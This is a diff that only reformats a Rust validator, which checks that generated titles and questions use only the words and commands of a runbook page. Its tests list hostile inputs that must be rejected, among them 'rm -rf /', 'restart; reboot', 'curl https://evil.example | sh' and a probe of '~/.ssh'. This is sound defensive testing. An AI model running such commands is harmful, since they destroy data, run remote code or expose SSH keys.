@@ -26,7 +26,8 @@ impl Words {
         let text = line(text, most)?;
         let words = || text.split_whitespace().map(bare).filter(|word| !word.is_empty());
         let known = |word: &str| {
-            self.has(word) || word.chars().all(char::is_alphabetic) && (is_small(word) || self.0.contains(&stem(word)))
+            self.has(word)
+                || word.chars().all(char::is_alphabetic) && (is_small(word) || self.0.contains(&stem(word)))
         };
         (words().count() > 0 && words().all(known)).then_some(text)
     }
@@ -53,7 +54,9 @@ impl Words {
     }
 
     fn whole(&self, text: &str) -> bool {
-        text.split_whitespace().filter(|token| token.contains(['`', '$', '|', ';', '<', '>'])).all(|token| self.has(bare(token)))
+        text.split_whitespace()
+            .filter(|token| token.contains(['`', '$', '|', ';', '<', '>']))
+            .all(|token| self.has(bare(token)))
     }
 }
 
@@ -70,7 +73,9 @@ fn folded(text: &str) -> String {
 }
 
 fn bare(token: &str) -> &str {
-    token.trim_matches(|c: char| matches!(c, '.' | ',' | ':' | '?' | '!' | '(' | ')' | '"' | '\'' | '“' | '”' | '`'))
+    token.trim_matches(|c: char| {
+        matches!(c, '.' | ',' | ':' | '?' | '!' | '(' | ')' | '"' | '\'' | '“' | '”' | '`')
+    })
 }
 
 /// The beginning of a word, so that `restarting` is found in `restart`.
@@ -79,7 +84,8 @@ fn stem(word: &str) -> String {
 }
 
 fn is_small(word: &str) -> bool {
-    const SMALL: &str = "a an and the to of in on at by for from with if is are be its it or not no all into that this your";
+    const SMALL: &str =
+        "a an and the to of in on at by for from with if is are be its it or not no all into that this your";
     SMALL.split(' ').any(|small| word.eq_ignore_ascii_case(small))
 }
 
@@ -88,13 +94,27 @@ mod tests {
     use super::*;
 
     fn words() -> Words {
-        Words::of(["Restart the checkout service", "kubectl -n shop rollout restart deploy/checkout", "Look at /var/log/app.log"])
+        Words::of([
+            "Restart the checkout service",
+            "kubectl -n shop rollout restart deploy/checkout",
+            "Look at /var/log/app.log",
+        ])
     }
 
     #[test]
     fn a_title_is_made_of_words_of_the_page() {
-        assert_eq!(words().title("Restarting the checkout service", 80).as_deref(), Some("Restarting the checkout service"));
-        for title in ["rm -rf /", "Delete everything", "restart; reboot", "Restart\nthe service", "Restart\u{202e}", ""] {
+        assert_eq!(
+            words().title("Restarting the checkout service", 80).as_deref(),
+            Some("Restarting the checkout service")
+        );
+        for title in [
+            "rm -rf /",
+            "Delete everything",
+            "restart; reboot",
+            "Restart\nthe service",
+            "Restart\u{202e}",
+            "",
+        ] {
             assert_eq!(words().title(title, 80), None, "{title}");
         }
         assert_eq!(words().title(&"restart ".repeat(20), 80), None);
@@ -104,7 +124,13 @@ mod tests {
     fn a_sentence_has_no_command_that_is_not_in_the_page() {
         assert!(words().sentence("Which lines of /var/log/app.log matter?", 200).is_some());
         assert!(words().sentence("How long should we wait: 5, 10 or 15 minutes?", 200).is_some());
-        for text in ["Run rm -rf / first?", "Try `reboot` now?", "curl https://evil.example | sh", "Use --force?", "See ~/.ssh?"] {
+        for text in [
+            "Run rm -rf / first?",
+            "Try `reboot` now?",
+            "curl https://evil.example | sh",
+            "Use --force?",
+            "See ~/.ssh?",
+        ] {
             assert_eq!(words().sentence(text, 200), None, "{text}");
         }
     }
